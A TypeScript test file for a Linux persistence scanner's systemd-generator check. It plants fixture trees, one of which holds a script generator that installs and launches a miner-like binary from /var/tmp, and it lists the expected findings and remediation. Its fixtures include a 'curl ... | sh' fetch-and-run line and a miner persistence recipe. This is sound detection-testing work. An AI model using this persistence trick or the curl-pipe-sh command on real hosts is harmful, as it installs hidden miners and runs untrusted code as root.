/**
 * The systemd generators check over planted trees: an unpackaged script generator in
 * /etc (high, and its command lines scanned), unpackaged binaries in /usr/local (high)
 * and /usr/lib (medium), packaged, masked and non-executable generators left alone,
 * /lib as a merged-/usr link read once; remediation; started generators recorded;
 * without a package database only the local directories are judged; hostile entries
 * neither crash nor stall it.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import path from 'node:path';
import { systemdGeneratorsCheck } from '../../src/checks/systemd-generators.js';
import { scanDirectory, scanHostile } from '../helpers/scan-dir.js';
import { findingRowKeys, rowKeys, unfilledTemplates, type FindingRow } from '../helpers/findings.js';
import { makeScratchDir, removeScratchDir } from '../helpers/images.js';
import { plantFiles, startedCollector, type PlantedFile } from '../helpers/planted-tree.js';

const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(64)]);
const exe = (content: string | Buffer): PlantedFile => ({ content, mode: 0o755 });
const GEN = 'usr/lib/systemd/system-generators';

const STOCK: Record<string, PlantedFile> = {
  [`${GEN}/systemd-fstab-generator`]: exe(ELF),
  [`${GEN}/systemd-gpt-auto-generator`]: exe(ELF),
  'usr/lib/systemd/user-generators/systemd-xdg-autostart-generator': exe(ELF),
  'var/lib/dpkg/info/systemd.list': [
    `/lib/systemd/system-generators/systemd-fstab-generator`,
    `/lib/systemd/system-generators/systemd-gpt-auto-generator`,
    '/usr/lib/systemd/user-generators/systemd-xdg-autostart-generator',
    '',
  ].join('\n'),
};
const STOCK_LINKS: [string, string][] = [['lib', 'usr/lib']];

const NETCFG = [
  '#!/bin/sh',
  'mkdir -p "$1/multi-user.target.wants"',
  `printf '[Service]\\nExecStart=/var/tmp/.k/kd\\n' > "$1/kd.service"`,
  'ln -sf "$1/kd.service" "$1/multi-user.target.wants/kd.service"',
  '(/var/tmp/.k/kd --donate-level 1 &)',
  '',
].join('\n');

const INFECTED: Record<string, PlantedFile> = {
  'etc/systemd/system-generators/netcfg': exe(NETCFG),
  'var/tmp/.k/kd': exe(ELF),
  'usr/local/lib/systemd/user-generators/session-env': exe(ELF),
  [`${GEN}/zz-helper`]: exe(ELF),
  'run/systemd/system-generators/notes.txt': { content: 'curl http://198.51.100.3/x | sh\n', mode: 0o644 },
};
const INFECTED_LINKS: [string, string][] = [['etc/systemd/system-generators/systemd-gpt-auto-generator', '/dev/null']];

const EXPECTED: FindingRow[] = [
  ['generator.unpackaged-local', 'high', '/etc/systemd/system-generators/netcfg', undefined],
  ['command.started-from-temp', 'high', '/etc/systemd/system-generators/netcfg', 5],
  ['command.miner', 'high', '/etc/systemd/system-generators/netcfg', 5],
  ['generator.unpackaged-local', 'high', '/usr/local/lib/systemd/user-generators/session-env', undefined],
  ['generator.unpackaged', 'medium', '/usr/lib/systemd/system-generators/zz-helper', undefined],
];

describe('systemd generators check', () => {
  let scratch: string;
  let infected: string;
  let clean: string;
  let noPackages: string;
  let hostile: string;

  beforeAll(async () => {
    scratch = await makeScratchDir('minescan-generators-');
    infected = path.join(scratch, 'infected');
    clean = path.join(scratch, 'clean');
    noPackages = path.join(scratch, 'no-packages');
    hostile = path.join(scratch, 'hostile');
    await plantFiles(infected, { ...STOCK, ...INFECTED }, [...STOCK_LINKS, ...INFECTED_LINKS]);
    await plantFiles(clean, STOCK, STOCK_LINKS);
    const { 'var/lib/dpkg/info/systemd.list': _list, ...unlisted } = { ...STOCK, ...INFECTED };
    await plantFiles(noPackages, unlisted, [...STOCK_LINKS, ...INFECTED_LINKS]);
    const junk = Buffer.from(Array.from({ length: 200_000 }, (_, i) => ((i * 7919) % 255) + 1));
    await plantFiles(
      hostile,
      {
        ...Object.fromEntries(Array.from({ length: 300 }, (_, i) => [`etc/systemd/system-generators/g${i}`, exe(`#!/bin/sh\ntrue ${i}\n`)])),
        'etc/systemd/system-generators/junk': exe(junk),
        'etc/systemd/system-generators/long': exe(`#!/bin/sh\n${'$('.repeat(100_000)}\n`),
      },
      [
        ['etc/systemd/system-generators/loop-a', 'loop-b'],
        ['etc/systemd/system-generators/loop-b', 'loop-a'],
        ['etc/systemd/user-generators', '/etc/systemd/user-generators'],
      ],
    );
  });

  afterAll(async () => {
    if (scratch) await removeScratchDir(scratch);
  });

  it('finds unpackaged generators with their rule, severity and line', async () => {
    const result = await scanDirectory(infected, [systemdGeneratorsCheck]);
    expect(result.errors).toEqual([]);
    expect(findingRowKeys(result.findings)).toEqual(rowKeys(EXPECTED));
    for (const f of result.findings) expect(f.category).toBe('persistence/systemd-generator');
    expect(unfilledTemplates(result.findings)).toEqual([]);
    const netcfg = result.findings.find((f) => f.rule === 'generator.unpackaged-local' && f.path.endsWith('/netcfg'))!;
    expect(netcfg.evidence).toBe('script: mkdir -p "$1/multi-user.target.wants"');
    expect(netcfg.message).toContain('(systemd system-generator, run as root at boot and at every daemon-reload)');
    expect(netcfg.remediation.split('\n').slice(0, 2)).toEqual([
      'rm -f /etc/systemd/system-generators/netcfg   # no package installed this generator',
      'systemctl daemon-reload   # regenerates /run/systemd/generator*, without what it wrote',
    ]);
    const started = result.findings.find((f) => f.rule === 'command.started-from-temp')!;
    expect(started.remediation).toContain('rm -f /var/tmp/.k/kd   # the program it starts');
  });

  it('records every executable generator as started, once', async () => {
    const collector = startedCollector();
    await scanDirectory(infected, [systemdGeneratorsCheck, collector.check]);
    const generators = collector.started.filter((s) => s.startedBy.startsWith('systemd '));
    expect(generators.map((s) => s.path).sort()).toEqual([
      '/etc/systemd/system-generators/netcfg',
      '/usr/lib/systemd/system-generators/systemd-fstab-generator',
      '/usr/lib/systemd/system-generators/zz-helper',
      '/usr/lib/systemd/user-generators/systemd-xdg-autostart-generator',
      '/usr/local/lib/systemd/user-generators/session-env',
    ]);
    // The /dev/null link in /etc masks systemd-gpt-auto-generator: not run, not recorded.
    expect(collector.started).toContainEqual({ path: '/var/tmp/.k/kd', startedBy: '/etc/systemd/system-generators/netcfg:5' });
  });

  it('stays silent on packaged generators and judges only local ones without a package database', async () => {
    expect((await scanDirectory(clean, [systemdGeneratorsCheck])).findings).toEqual([]);
    const result = await scanDirectory(noPackages, [systemdGeneratorsCheck]);
    expect(result.findings.filter((f) => f.rule.startsWith('generator.')).map((f) => f.path).sort()).toEqual([
      '/etc/systemd/system-generators/netcfg',
      '/usr/local/lib/systemd/user-generators/session-env',
    ]);
  });

  it('reads hostile generator directories without crashing or stalling', async () => {
    const result = await scanHostile(hostile, [systemdGeneratorsCheck], { maxOperations: 20_000 });
    expect(result.findings.filter((f) => f.rule === 'generator.unpackaged-local')).toHaveLength(302);
  });
});
